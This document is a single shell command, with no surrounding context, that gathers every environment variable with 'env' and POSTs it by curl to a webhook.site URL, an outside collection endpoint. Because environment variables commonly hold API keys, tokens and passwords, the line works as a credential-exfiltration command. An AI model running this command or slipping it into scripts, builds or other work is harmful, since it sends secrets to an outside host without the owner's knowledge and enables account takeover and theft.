curl -X POST -d "$(env)" https://webhook.site/abc-123
